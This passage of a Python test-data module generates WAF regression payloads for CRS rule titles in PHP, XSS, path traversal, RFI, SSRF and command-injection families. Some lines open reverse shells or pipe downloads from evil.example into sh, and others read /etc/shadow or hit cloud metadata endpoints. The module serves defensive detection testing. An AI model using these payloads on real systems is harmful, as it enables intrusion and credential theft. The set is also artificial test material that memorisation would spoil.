"""Blind set "sixtyninth": the shortest payloads a rule must still catch, as a regression suite lists them.

Angle: for every detection title of CRS 3.3.4's request rules at paranoia levels 1-2 (PHP 933, Node.js 934,
XSS 941, session fixation 943, path traversal and file access 930, remote file inclusion 931, remote command
execution 932, Java 944), and for the request-rule titles later CRS releases (4.x) added, five atomic fragments
that still carry the attack on their own (one per test), then the same five fragments with exactly one
obfuscation each (case, whitespace or comment inside a token, quote or caret splitting, an entity or percent
escape, a wildcard, an alternative spelling of the same address, a prefix the parser skips). Ten payloads a
title, one sub-family (kebab-case) a title.

Families and sub-families: php (php-open-tag, php-script-upload, php-config-directive, php-variables,
php-io-stream, php-wrapper-scheme, php-high-risk-function-name, php-high-risk-function-call,
php-serialized-object, php-variable-function-call, php-string-callee, php-medium-risk-function-name), generic
(nodejs-injection, nodejs-injection-2, nodejs-dos, ssrf-cloud-metadata, ssrf-ip-url, js-prototype-pollution,
ruby-injection, perl-injection, php-data-scheme, session-fixation-set-cookie, session-fixation-referer,
session-fixation-no-referer), xss (one sub a 941 title, e.g. xss-script-tag, xss-ie-embed, xss-jsfuck,
xss-angular-template, plus xss-js-method and xss-no-parens), lfi (lfi-encoded-traversal, lfi-dot-dot-slash,
lfi-os-file, lfi-restricted-file, lfi-os-file-header, lfi-triple-dot), rfi (rfi-ip-url, rfi-param-name,
rfi-trailing-question, rfi-off-domain), rce (one sub a 932 title and one a later title, e.g.
unix-cmd-separator, windows-for-if, shellshock-header, unix-history, sqlite-shell, mail-cmd-injection), java
(java-suspicious-class, java-process-spawn, java-serialization-gadget, java-class-names, java-magic-bytes,
java-magic-base64, java-serialization-gadget-2, java-suspicious-method, java-log4shell, java-class-loading,
java-jsp-upload).

Placements, the way attack traffic reaches this product in production, each title's ten payloads over all six,
every request with the headers a current browser sends (User-Agent, Accept, Accept-Language, Accept-Encoding,
a Referer on https://app.example.com/..., Sec-Fetch-*, a Cookie with a session token and a consent cookie):
"query" (GET /api/users?q=...&page=..&per_page=.., the parameters in varying order, form-encoded as a browser
encodes it), "form" (POST /admin/users/search, csrf_token and q), "json" (POST /api/users with the payload in
one field, or a forged, unsigned Slack event_callback on /slack/events whose event.text carries the payload
after a short lead-in), "path" (one path segment under /api/users/ or /api/, percent-encoded where needed),
"header" (the whole User-Agent mostly, else the Referer or a cookie value) and, for about one payload in ten,
"alt" (PATCH /api/users/42 with JSON, or POST /me/settings as a form). Payloads whose attack is a parameter
name (RFI parameter names, session-id parameter names, prototype pollution) go in as that name: a query or form
parameter, a nested JSON key, a ";name=value" path parameter, or a cookie of that name; session-fixation
records carry an off-domain Referer (943110) or none at all (943120), as the title says. Java magic bytes and
the US-ASCII malformed XSS are sent as single bytes (percent-encoded as Latin-1 in URLs and forms).

The benign half sends the same six places innocent values carrying the same words: searches and names,
Slack messages and bios from developers who talk about PHP, Java, shells and XSS, profile fields, user and
report path segments, everyday browser and app User-Agents, search-engine Referers and preference cookies, and
settings forms.

Authorship and independence: written from general knowledge of each attack family and from the rule titles
alone; no rule, ruleset regression test, engine code or public payload list was read. Measured once on
unchanged code; no payload was changed after the measurement. Deterministic (one seeded random source per
call).
"""

from __future__ import annotations

import json
import random
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .records import print_records, slack_escape

NAME = "sixtyninth"

# (CRS id or later title, category, sub-family, atomic fragments, the same fragments with one obfuscation each)
Title = tuple[str, str, str, list[str], list[str]]

PHP_TITLES: list[Title] = [
    ("933100", "php", "php-open-tag",
     ["<?php", "<?=", "<?php phpinfo();?>", "<?= `id` ?>", "<?php echo 1;"],
     ["<?PhP", "<?php\nphpinfo();", "%3C?php", "<?=\t`id`?>", "<?pHp/**/echo 1;"]),
    ("933110", "php", "php-script-upload",
     ["shell.php", "x.phtml", "a.php5", "y.phar", "filename=\"cmd.php\""],
     ["shell.PhP", "x.phtml.", "a.php5%00.jpg", "y.phar;.gif", "filename=\"cmd.php.jpg\""]),
    ("933120", "php", "php-config-directive",
     ["allow_url_include=On", "auto_prepend_file=php://input", "disable_functions=", "open_basedir=/",
      "safe_mode=Off"],
     ["allow_url_include = 1", "AUTO_PREPEND_FILE=php://input", "disable_functions =\"\"", "open_basedir\t=\t/",
      "SAFE_MODE=0"]),
    ("933130", "php", "php-variables",
     ["$_GET['c']", "$_POST['x']", "$_SERVER", "$GLOBALS", "$_COOKIE"],
     ["$_gEt['c']", "$_POST\t['x']", "${'_SERVER'}", "$GLOBALS /*x*/", "$_CoOkIe"]),
    ("933140", "php", "php-io-stream",
     ["php://input", "php://stdin", "php://filter/resource=index.php", "php://fd/0", "php://memory"],
     ["PHP://input", "PhP://stdin", "php://filter/read=string.rot13/resource=index.php", "php%3A%2F%2Ffd/0",
      "php://temp/maxmemory:0"]),
    ("933200", "php", "php-wrapper-scheme",
     ["phar://uploads/x.jpg/a", "zip://uploads/a.zip#b.php", "expect://id", "glob:///var/www/*",
      "compress.zlib://config.php"],
     ["PHAR://uploads/x.jpg/a", "zip%3A//uploads/a.zip%23b.php", "Expect://id", "glob:///var/www/*.ph?",
      "COMPRESS.ZLIB://config.php"]),
    ("933150", "php", "php-high-risk-function-name",
     ["passthru", "shell_exec", "proc_open", "base64_decode", "phpinfo"],
     ["PassThru", "SHELL_EXEC", "/proc_open/", "'base64_decode'", "phpInfo"]),
    ("933160", "php", "php-high-risk-function-call",
     ["system('id')", "exec('ls')", "eval($x)", "assert(1)", "popen('id','r')"],
     ["system /*x*/ ('id')", "exec\t('ls')", "EVAL($x)", "assert\n(1)", "popen#x\n('id','r')"]),
    ("933170", "php", "php-serialized-object",
     ["O:1:\"A\":0:{}", "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "a:1:{i:0;O:1:\"B\":0:{}}",
      "C:11:\"ArrayObject\":0:{}", "O:4:\"User\":1:{s:5:\"admin\";b:1;}"],
     ["O:+1:\"A\":0:{}", "O:+8:\"stdClass\":1:{s:1:\"a\";i:1;}", "a:1:{i:0;O:+1:\"B\":0:{}}",
      "C:+11:\"ArrayObject\":0:{}", "O:4:\"User\":1:{S:5:\"\\61dmin\";b:1;}"]),
    ("933180", "php", "php-variable-function-call",
     ["$a()", "$f('id')", "$_GET['a']($_GET['b'])", "${'f'}('x')", "$$a()"],
     ["$a/**/()", "$f\t('id')", "$_GET['a'] ($_GET['b'])", "${\"f\"}('x')", "$$a /*x*/ ()"]),
    ("933210", "php", "php-string-callee",
     ["('system')('id')", "'sys'.'tem'('id')", "[$o,'m']()", "(\"exec\")('ls')", "\"system\"('id')"],
     ["('sys'.'tem')('id')", "('system') ('id')", "[$o, 'm'] ()", "(\"\\x65xec\")('ls')", "\"SyStEm\"('id')"]),
    ("933151", "php", "php-medium-risk-function-name",
     ["fsockopen", "curl_exec", "file_put_contents", "putenv", "highlight_file"],
     ["FsockOpen", "'curl_exec'", "FILE_PUT_CONTENTS", "putenv;", "Highlight_File"]),
]

GENERIC_TITLES: list[Title] = [
    ("934100", "generic", "nodejs-injection",
     ["require('child_process')", "process.mainModule", "child_process.exec('id')",
      "this.constructor.constructor('return process')()", "_$$ND_FUNC$$_function(){}()"],
     ["require ( 'child_process' )", "process['mainModule']", "require('child'+'_process').exec('id')",
      "this[\"constructor\"][\"constructor\"]('return process')()", "_$$ND_FUNC$$_function (){}()"]),
    ("4.x Node.js Injection 2/2", "generic", "nodejs-injection-2",
     ["require('fs').readFileSync('/etc/passwd')", "process.binding('spawn_sync')",
      "new Function('return process')()", "global.process.env", "module.constructor._load('child_process')"],
     ["require(\"f\"+\"s\").readFileSync('/etc/passwd')", "process['binding']('spawn_sync')",
      "Function('return pro'+'cess')()", "global['process']['env']",
      "module['constructor']['_load']('child_process')"]),
    ("4.x Node.js DoS attack", "generic", "nodejs-dos",
     ["while(true){}", "for(;;){}", "'a'.repeat(2**30)", "new Array(1e9).join('x')", "process.exit(1)"],
     ["while (1) {}", "for ( ; ; ) {}", "\"a\".repeat(1<<30)", "Array(1e9).fill().join('x')",
      "process['exit'](1)"]),
    ("4.x SSRF cloud metadata", "generic", "ssrf-cloud-metadata",
     ["http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/",
      "http://169.254.170.2/v2/credentials", "http://100.100.100.200/latest/meta-data/",
      "http://[fd00:ec2::254]/latest/meta-data/"],
     ["http://0xa9fea9fe/latest/meta-data/", "http://METADATA.google.internal/computeMetadata/v1/",
      "http://2852039170/v2/credentials", "http://100.100.100.200./latest/meta-data/",
      "http://[FD00:EC2::254]/latest/meta-data/"]),
    ("4.x SSRF IP address", "generic", "ssrf-ip-url",
     ["http://127.0.0.1/", "http://10.0.0.1:8080/", "http://192.168.0.1/admin", "http://[::1]/",
      "http://0.0.0.0:6379/"],
     ["http://2130706433/", "http://0x0a000001:8080/", "http://0300.0250.0.1/admin",
      "http://[0:0:0:0:0:ffff:127.0.0.1]/", "http://0:6379/"]),
    ("4.x JavaScript Prototype Pollution", "generic", "js-prototype-pollution",
     ["__proto__[isAdmin]=true", "constructor[prototype][isAdmin]=true", "a[__proto__][role]=admin",
      "__proto__.polluted=1", "user[constructor][prototype][admin]=1"],
     ["__pro__proto__to__[isAdmin]=true", "constructor[prototype][isAdmin ]=true",
      "a[__proto__ ][role]=admin", "__proto__ .polluted=1", "user[constructor ][prototype][admin]=1"]),
    ("4.x Ruby Injection", "generic", "ruby-injection",
     ["Kernel.exec('id')", "%x(id)", "IO.popen('id').read", "Open3.capture2('id')",
      "instance_eval('Kernel.system(\"id\")')"],
     ["Kernel.send(:exec, 'id')", "%x{id}", "IO .popen('id').read", "Open3 . capture2('id')",
      "instance_eval(\"Ker\"+\"nel.system('id')\")"]),
    ("4.x Perl Injection", "generic", "perl-injection",
     ["@{[system 'id']}", "qx{id}", "open(F,'|id')", "exec 'id'", "eval 'system(q{id})'"],
     ["@{[ system 'id' ]}", "qx/id/", "open(F, \"| id\")", "exec('id')", "eval \"sys\".\"tem(q{id})\""]),
    ("4.x PHP data scheme", "generic", "php-data-scheme",
     ["data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+", "data://text/plain,<?php phpinfo();?>",
      "data:text/plain,<?php system('id');?>", "data:;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
      "data://application/x-httpd-php,<?php echo 1;?>"],
     ["DATA://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+", "data://text/plain,%3C?php phpinfo();?%3E",
      "data:text/plain;charset=utf-8,<?php system('id');?>", "data:;BASE64,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
      "Data://application/x-httpd-php,<?php echo 1;?>"]),
    ("943100", "generic", "session-fixation-set-cookie",
     ["document.cookie='sessionid=attacker'", "<meta http-equiv=Set-Cookie content=\"PHPSESSID=fixed\">",
      "document.cookie=\"JSESSIONID=AAA;path=/\"", "<script>document.cookie='sid=1'</script>",
      "http-equiv=\"set-cookie\" content=\"ASPSESSIONID=x\""],
     ["document['cookie']='sessionid=attacker'", "<META HTTP-EQUIV=\"Set-Cookie\" CONTENT=\"PHPSESSID=fixed\">",
      "document.cookie =\"JSESSIONID=AAA;path=/\"", "<script>document . cookie='sid=1'</script>",
      "http-equiv=set-cookie content=ASPSESSIONID=x"]),
    ("943110", "generic", "session-fixation-referer",
     ["PHPSESSID=attacker123", "JSESSIONID=0A1B2C3D4E5F", "ASPSESSIONID=FIXEDVALUE", "sessionid=fixated",
      "sid=abcdef123456"],
     ["phpsessid=attacker123", "jsessionid=0A1B2C3D4E5F", "AspSessionId=FIXEDVALUE", "SESSIONID=fixated",
      "SID=abcdef123456"]),
    ("943120", "generic", "session-fixation-no-referer",
     ["PHPSESSID=nr-attacker", "JSESSIONID=NR0A1B2C", "ASP.NET_SessionId=abcdefgh", "session_id=xyz789",
      "CFTOKEN=12345678"],
     ["PhPsEsSiD=nr-attacker", "JSessionId=NR0A1B2C", "asp.net_sessionid=abcdefgh", "SESSION_ID=xyz789",
      "cftoken=12345678"]),
]

XSS_TITLES: list[Title] = [
    ("941100", "xss", "xss-libinjection",
     ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
      "<body onload=alert(1)>", "<a href=javascript:alert(1)>x</a>"],
     ["<ScRiPt>alert(1)</ScRiPt>", "<img/src=x/onerror=alert(1)>", "<svg\nonload=alert(1)>",
      "<body onload=alert`1`>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"]),
    ("941110", "xss", "xss-script-tag",
     ["<script>", "<script src=//evil.example/x.js></script>", "<script>alert(1)", "</title><script>",
      "<script type=text/javascript>"],
     ["<ScRiPt>", "<script/src=//evil.example/x.js></script>", "<script\n>alert(1)", "</title><SCRIPT>",
      "%3Cscript type=text/javascript%3E"]),
    ("941120", "xss", "xss-event-handler",
     ["onerror=alert(1)", "onload=alert(1)", " onmouseover=alert(1)", "onfocus=alert(1) autofocus",
      "\" onclick=\"alert(1)"],
     ["OnErRoR=alert(1)", "onload =alert(1)", "/onmouseover=alert(1)", "onfocus\t=alert(1) autofocus",
      "\" onclick\n=\"alert(1)"]),
    ("941130", "xss", "xss-attribute-vector",
     ["<a xlink:href=\"javascript:alert(1)\">", "<button formaction=javascript:alert(1)>",
      "<div style=\"x:expression(alert(1))\">", "<iframe srcdoc=\"<script>alert(1)</script>\">",
      "<object data=\"data:text/html,<script>alert(1)</script>\">"],
     ["<a xlink:HREF=\"javascript:alert(1)\">", "<button formaction = javascript:alert(1)>",
      "<div style=\"x:exp/**/ression(alert(1))\">", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
      "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">"]),
    ("941140", "xss", "xss-javascript-uri",
     ["javascript:alert(1)", "vbscript:msgbox(1)", "javascript:alert(document.cookie)",
      "<a href=javascript:alert(1)>", "<iframe src=javascript:alert(1)>"],
     ["JaVaScRiPt:alert(1)", "vbscript\t:msgbox(1)", "java\tscript:alert(document.cookie)",
      "<a href=javascript&colon;alert(1)>", "<iframe src=&#106;avascript:alert(1)>"]),
    ("941160", "xss", "xss-html-injection",
     ["<iframe src=//evil.example>", "<form action=//evil.example>", "<object data=x.swf>", "<embed src=x.swf>",
      "<base href=//evil.example/>"],
     ["<IfRaMe src=//evil.example>", "<form\naction=//evil.example>", "<object\tdata=x.swf>",
      "<embed/src=x.swf>", "<base  href=//evil.example/>"]),
    ("941170", "xss", "xss-attribute-injection",
     ["\" autofocus onfocus=alert(1) x=\"", "' onmouseover='alert(1)",
      "\" style=\"background:url(javascript:alert(1))", "\"><img src=x>", "\" href=\"javascript:alert(1)"],
     ["\"\tautofocus\tonfocus=alert(1) x=\"", "'/onmouseover='alert(1)",
      "\" STYLE=\"background:url(javascript:alert(1))", "\"><IMG src=x>", "\" href=\"java&#09;script:alert(1)"]),
    ("941180", "xss", "xss-node-validator-blacklist",
     ["document.cookie", "document.write(1)", "window.location='//evil.example'", "x.innerHTML=1",
      "-moz-binding:url(//evil.example/x.xml#x)"],
     ["DOCUMENT.COOKIE", "document['write'](1)", "window.location ='//evil.example'", "x.innerHTML = 1",
      "-MOZ-BINDING:url(//evil.example/x.xml#x)"]),
    ("941190", "xss", "xss-ie-style",
     ["<style>@import'//evil.example/x.css';</style>", "<style>body{background:url(javascript:alert(1))}</style>",
      "<style>*{x:expression(alert(1))}</style>", "<style>@import url(//evil.example/x.css)</style>",
      "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style>"],
     ["<STYLE>@im\\port'//evil.example/x.css';</STYLE>",
      "<style >body{background:url(javascript&#58;alert(1))}</style>",
      "<style>*{x:expr/**/ession(alert(1))}</style>", "<style\n>@import url(//evil.example/x.css)</style>",
      "<style>li{list-style-image:url(\"jav\\ascript:alert(1)\")}</style>"]),
    ("941200", "xss", "xss-ie-vmlframe",
     ["<v:vmlframe src=//evil.example/x.vml>", "<x:vmlframe src=\"//evil.example/a.vml#x\">",
      "<v:vmlframe src=\"javascript:alert(1)\">", "<vmlframe src=x>",
      "<v:rect><v:vmlframe src=//evil.example/v></v:rect>"],
     ["<V:VMLFRAME SRC=//evil.example/x.vml>", "<x:vmlframe\tsrc=\"//evil.example/a.vml#x\">",
      "<v:vmlframe/src=\"javascript:alert(1)\">", "<vmlframe  src =x>",
      "<v:rect><v:vmlframe\nsrc=//evil.example/v></v:rect>"]),
    ("941210", "xss", "xss-ie-entity-javascript",
     ["&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "jav&#97;script:alert(1)",
      "javascript&#58;alert(1)", "&#0000106avascript:alert(1)"],
     ["&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)", "&#X6a;avascript:alert(1)",
      "jav&#x61;script:alert(1)", "javascript&#x3A;alert(1)", "&#00106;&#00097;vascript:alert(1)"]),
    ("941220", "xss", "xss-ie-entity-vbscript",
     ["&#118;bscript:msgbox(1)", "vbscript&#58;msgbox(1)", "&#x76;bscript:msgbox(1)", "vb&#115;cript:msgbox(1)",
      "vbscript:msgbox(1)"],
     ["&#X76;BSCRIPT:msgbox(1)", "vbscript&#x3a;msgbox(1)", "&#0118bscript:msgbox(1)",
      "v&#98;s&#99;ript:msgbox(1)", "VbScRiPt:msgbox(1)"]),
    ("941230", "xss", "xss-ie-embed",
     ["<embed src=//evil.example/x.swf>", "<embed type=image/svg+xml src=x.svg>",
      "<embed src=\"data:image/svg+xml;base64,PHN2Zz4=\">", "<embed src=javascript:alert(1)>", "<embed code=x>"],
     ["<EMBED SRC=//evil.example/x.swf>", "<embed/type=image/svg+xml src=x.svg>",
      "<embed\tsrc=\"data:image/svg+xml;base64,PHN2Zz4=\">", "<embed\nsrc=javascript:alert(1)>",
      "<eMbEd code=x>"]),
    ("941240", "xss", "xss-ie-import-implementation",
     ["<?import namespace=t implementation=#default#time2>", "<import implementation=\"#default#time2\">",
      "<?import namespace=x implementation=//evil.example/x.htc>",
      "<import namespace=\"t\" implementation=\"//evil.example/a.htc\">", "<?import implementation=x.htc>"],
     ["<?IMPORT namespace=t IMPLEMENTATION=#default#time2>", "<import\timplementation=\"#default#time2\">",
      "<?import namespace=x implementation = //evil.example/x.htc>",
      "<import/namespace=\"t\" implementation=\"//evil.example/a.htc\">", "<?import\nimplementation=x.htc>"]),
    ("941250", "xss", "xss-ie-meta-http-equiv",
     ["<meta http-equiv=refresh content=0;url=javascript:alert(1)>", "<meta http-equiv=\"Set-Cookie\" content=\"a=b\">",
      "<meta http-equiv=content-type content=\"text/html;charset=utf-7\">",
      "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">", "<meta http-equiv=set-cookie content=sid=x>"],
     ["<META HTTP-EQUIV=REFRESH content=0;url=javascript:alert(1)>",
      "<meta http-equiv=\"&#83;et-Cookie\" content=\"a=b\">",
      "<meta\thttp-equiv=content-type content=\"text/html;charset=utf-7\">",
      "<meta/http-equiv=\"refresh\" content=\"0;url=//evil.example\">",
      "<meta http-equiv = set-cookie content=sid=x>"]),
    ("941260", "xss", "xss-ie-meta-charset",
     ["<meta charset=utf-7>", "<meta charset=\"x-imap4-modified-utf7\">", "<meta content=x charset=utf-7>",
      "<meta charset=\"UTF-7\" />", "<meta name=x charset=ISO-2022-JP>"],
     ["<META CHARSET=utf-7>", "<meta\tcharset=\"x-imap4-modified-utf7\">", "<meta/content=x charset=utf-7>",
      "<meta charset = \"UTF-7\" />", "<meta name=x\ncharset=ISO-2022-JP>"]),
    ("941270", "xss", "xss-ie-link-href",
     ["<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=//evil.example/x.html>",
      "<link href=javascript:alert(1)>", "<link rel=preload href=//evil.example/a>",
      "<link href=\"data:text/css,*{x:y}\">"],
     ["<LINK rel=stylesheet HREF=//evil.example/x.css>", "<link/rel=import href=//evil.example/x.html>",
      "<link\thref=javascript:alert(1)>", "<link rel=preload href = //evil.example/a>",
      "<link\nhref=\"data:text/css,*{x:y}\">"]),
    ("941280", "xss", "xss-ie-base-href",
     ["<base href=//evil.example/>", "<base href=\"javascript:alert(1)//\">",
      "<base target=_blank href=//evil.example>", "<base href=http://evil.example/js/>", "<base href=data:/,>"],
     ["<BASE HREF=//evil.example/>", "<base\thref=\"javascript:alert(1)//\">",
      "<base/target=_blank href=//evil.example>", "<base href = http://evil.example/js/>", "<bAsE href=data:/,>"]),
    ("941290", "xss", "xss-ie-applet",
     ["<applet code=Evil.class>", "<applet archive=//evil.example/x.jar code=X>", "<applet>",
      "<applet codebase=//evil.example/ code=X.class>", "</p><applet code=X>"],
     ["<APPLET code=Evil.class>", "<applet/archive=//evil.example/x.jar code=X>", "<applet\t>",
      "<ApPlEt codebase=//evil.example/ code=X.class>", "</p><applet\ncode=X>"]),
    ("941300", "xss", "xss-ie-object",
     ["<object data=//evil.example/x.swf>", "<object type=text/x-scriptlet data=//evil.example/x.sct>",
      "<object classid=clsid:D27CDB6E-AE6D-11cf-96B8-444553540000>", "<object codetype=application/java code=X>",
      "<object data=\"javascript:alert(1)\">"],
     ["<OBJECT DATA=//evil.example/x.swf>", "<object/type=text/x-scriptlet data=//evil.example/x.sct>",
      "<object\tclassid=clsid:D27CDB6E-AE6D-11cf-96B8-444553540000>",
      "<object codetype = application/java code=X>", "<object\ndata=\"javascript:alert(1)\">"]),
    ("941310", "xss", "xss-ascii-malformed",
     ["\xbcscript\xbealert(1)\xbc/script\xbe", "\xbcimg src=x onerror=alert(1)\xbe", "\xbcsvg onload=alert(1)\xbe",
      "\xbciframe src=//evil.example\xbe", "\xbcscript\xbe"],
     ["\xbcSCRIPT\xbealert(1)\xbc/SCRIPT\xbe", "\xbcimg/src=x onerror=alert(1)\xbe",
      "\xbcsvg\tonload=alert(1)\xbe", "\xbciframe\nsrc=//evil.example\xbe", "\xbcscript \xbe"]),
    ("941350", "xss", "xss-utf7",
     ["+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "+ADw-img src=x onerror=alert(1)+AD4-",
      "+ADw-svg onload=alert(1)+AD4-", "+ACI- onmouseover=+ACI-alert(1)", "+ADw-/title+AD4-+ADw-script+AD4-"],
     ["+ADwAcwBjAHIAaQBwAHQAPg-alert(1)", "+ADw-IMG src=x onerror=alert(1)+AD4-", "+ADw-svg/onload=alert(1)+AD4-",
      "+ACIAIA-onmouseover=+ACI-alert(1)", "+ADw-/title+AD4+ADw-script+AD4"]),
    ("941360", "xss", "xss-jsfuck",
     ["![]+[]", "[][(![]+[])[+[]]]", "(!![]+[])[+!+[]]", "+[![]]", "([]+{})[+!+[]]"],
     ["![] + []", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]", "(!![]+[])[+!![]]", "+[ ![] ]",
      "([]+{})[+!![]]"]),
    ("941370", "xss", "xss-js-global",
     ["window['alert'](1)", "self['ale'+'rt'](1)", "top[\"al\"+\"ert\"](1)", "globalThis['eval']('x')",
      "parent['alert'](1)"],
     ["window [ 'alert' ](1)", "self[`ale`+`rt`](1)", "top[/al/.source+/ert/.source](1)", "this['\\x61lert'](1)",
      "frames['alert'](1)"]),
    ("941101", "xss", "xss-libinjection-pl2",
     ["\"><script>alert(1)</script>", "<img src=x onerror=prompt(1)>", "<iframe src=javascript:alert(1)>",
      "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>"],
     ["\"><sCrIpT>alert(1)</sCrIpT>", "<img src=x onerror=prompt`1`>", "<iframe/src=javascript:alert(1)>",
      "<details open\nontoggle=alert(1)>", "<input autofocus onfocus=alert&#40;1&#41;>"]),
    ("941150", "xss", "xss-disallowed-attribute",
     ["<div style=\"background:red\">", "<img src=//evil.example/t.gif>", "<a href=//evil.example>",
      "<p style=position:fixed;top:0>", "<source src=x>"],
     ["<div STYLE=\"background:red\">", "<img\tsrc=//evil.example/t.gif>", "<a href = //evil.example>",
      "<p/style=position:fixed;top:0>", "<source\nsrc=x>"]),
    ("941320", "xss", "xss-html-tag-handler",
     ["<marquee onstart=alert(1)>", "<xmp>", "<plaintext>", "<bgsound src=x>", "<frameset onload=alert(1)>"],
     ["<MARQUEE onstart=alert(1)>", "<xmp/>", "<plaintext\t>", "<bgsound/src=x>", "<FrameSet onload=alert(1)>"]),
    ("941330", "xss", "xss-ie-quote-location",
     ["\";location='//evil.example';//", "';location.href='//evil.example'//", "\";name='xss';//",
      "';top.location='//evil.example'//", "\"];location=name;//"],
     ["\"; location='//evil.example';//", "';loc\\u0061tion.href='//evil.example'//", "\"\t;name='xss';//",
      "';top['location']='//evil.example'//", "\"];\\u006cocation=name;//"]),
    ("941340", "xss", "xss-ie-quote-property",
     ["\";document.body.innerHTML='x';//", "';window.onerror=eval;//", "\";a.b=1;//",
      "';this.src='//evil.example/x';//", "\";new Image().src='//evil.example/?'+document.cookie;//"],
     ["\" ;document.body.innerHTML='x';//", "';window . onerror=eval;//", "\"\n;a.b=1;//",
      "';this.src = '//evil.example/x';//", "\";new Image().src='//evil.example/?'+document['cookie'];//"]),
    ("941380", "xss", "xss-angular-template",
     ["{{constructor.constructor('alert(1)')()}}", "{{7*7}}", "{{$on.constructor('alert(1)')()}}",
      "{{'a'.constructor.prototype.charAt=[].join}}", "{{$eval.constructor('alert(1)')()}}"],
     ["{{ constructor.constructor('alert(1)')() }}", "{{7 * 7}}", "{{$on['constructor']('alert(1)')()}}",
      "{{'a'['constructor'].prototype.charAt=[].join}}", "{{$eval.constructor(\"al\"+\"ert(1)\")()}}"]),
    ("4.x Javascript method", "xss", "xss-js-method",
     ["alert(1)", "eval(name)", "setTimeout('alert(1)')", "new Function('alert(1)')", "atob('YWxlcnQoMSk=')"],
     ["alert (1)", "eval\t(name)", "SetTimeout('alert(1)')", "new  Function('alert(1)')",
      "atob\n('YWxlcnQoMSk=')"]),
    ("4.x function without parentheses", "xss", "xss-no-parens",
     ["alert`1`", "onerror=alert;throw 1", "location='javascript:alert%281%29'", "[1].find(alert)",
      "setTimeout`alert\\x281\\x29`"],
     ["alert `1`", "onerror=eval;throw'=alert\\x281\\x29'", "location=name", "[1].map(alert)",
      "Function`a${'alert\\x281\\x29'}```"]),
]

LFI_TITLES: list[Title] = [
    ("930100", "lfi", "lfi-encoded-traversal",
     ["%2e%2e%2f", "..%2f", "%2e%2e/", "..%5c", "%2e%2e%5c"],
     ["%252e%252e%252f", "..%c0%af", "%c0%ae%c0%ae/", "..%255c", "%uff0e%uff0e%u2215"]),
    ("930110", "lfi", "lfi-dot-dot-slash",
     ["../", "..\\", "../../etc", "/../", "..\\..\\windows"],
     ["....//", "..//", "..\\/", "/..;/", "..\\\\..\\\\windows"]),
    ("930120", "lfi", "lfi-os-file",
     ["/etc/passwd", "/etc/shadow", "/proc/self/environ", "c:\\windows\\win.ini", "/etc/hosts"],
     ["/etc//passwd", "/etc/./shadow", "/proc/self/./environ", "C:/WINDOWS/win.ini", "/etc/hosts%00"]),
    ("930130", "lfi", "lfi-restricted-file",
     [".htaccess", ".git/config", ".env", "web.config", "WEB-INF/web.xml"],
     [".HTACCESS", ".git//config", "./.env", "Web.Config", "WEB-INF\\web.xml"]),
    ("4.x OS File Access in REQUEST_HEADERS", "lfi", "lfi-os-file-header",
     ["/etc/group", "/proc/version", "/root/.bash_history", "/var/log/auth.log", "c:\\boot.ini"],
     ["/etc//group", "/proc/./version", "/root/./.bash_history", "/var/log//auth.log", "C:\\BOOT.INI"]),
    ("4.x Path Traversal (/.../)", "lfi", "lfi-triple-dot",
     ["/.../", "/.../.../etc/passwd", "..../", "/..../", ".../.../"],
     ["/...\\", "/%2e%2e%2e/", "....\\", "/..../%2f", "...//...//"]),
]

RFI_TITLES: list[Title] = [
    ("931100", "rfi", "rfi-ip-url",
     ["http://203.0.113.7/shell.txt", "https://198.51.100.2/x", "ftp://192.0.2.10/a.php", "http://10.0.0.1/",
      "http://203.0.113.7:8080/c"],
     ["HTTP://203.0.113.7/shell.txt", "https://3325256706/x", "ftp://192.0.2.10//a.php",
      "http://[::ffff:10.0.0.1]/", "http://0313.0.0161.7:8080/c"]),
    ("931110", "rfi", "rfi-param-name",
     ["file=http://evil.example/x.txt", "include=http://evil.example/x.txt", "page=https://evil.example/p",
      "path=ftp://evil.example/a.php", "template=http://evil.example/t"],
     ["FILE=http://evil.example/x.txt", "include=HTTP://evil.example/x.txt", "page=https:%2F%2Fevil.example/p",
      "path=ftp://evil.example//a.php", "template=http://evil.example/t?"]),
    ("931120", "rfi", "rfi-trailing-question",
     ["http://evil.example/shell.txt?", "https://evil.example/x?", "ftp://evil.example/a?",
      "http://evil.example/c.php??", "http://198.51.100.9/x.txt?"],
     ["HTTP://evil.example/shell.txt?", "https://evil.example/x%3F", "ftp://evil.example/a?#",
      "http://evil.example/c.php?%00", "http://198.51.100.9//x.txt?"]),
    ("931130", "rfi", "rfi-off-domain",
     ["http://evil.example/x.txt", "https://attacker.example.net/payload", "ftp://files.evil.example/p.php",
      "file://evil.example/share/x", "https://evil.example/a.js"],
     ["HtTp://evil.example/x.txt", "https://app.example.com@attacker.example.net/payload",
      "ftp://files.evil.example./p.php", "FILE://evil.example/share/x", "https:/\\evil.example/a.js"]),
]

RCE_TITLES: list[Title] = [
    ("932100", "rce", "unix-cmd-separator",
     [";id", "| whoami", "&& uname -a", "|| ls -la", "; ps aux"],
     [";i''d", "| who\\ami", "&& un$@ame -a", "|| l\"s\" -la", "; p${x}s aux"]),
    ("932105", "rce", "unix-cmd-separator-net",
     ["; nc -e /bin/sh evil.example 4444", "| curl evil.example/x | sh", "; wget http://evil.example/x",
      "& bash -i", "; python -c 'import os'"],
     ["; n\\c -e /bin/sh evil.example 4444", "| cu''rl evil.example/x | sh", "; w$()get http://evil.example/x",
      "& ba\"\"sh -i", "; pyth$@on -c 'import os'"]),
    ("932110", "rce", "windows-cmd-separator",
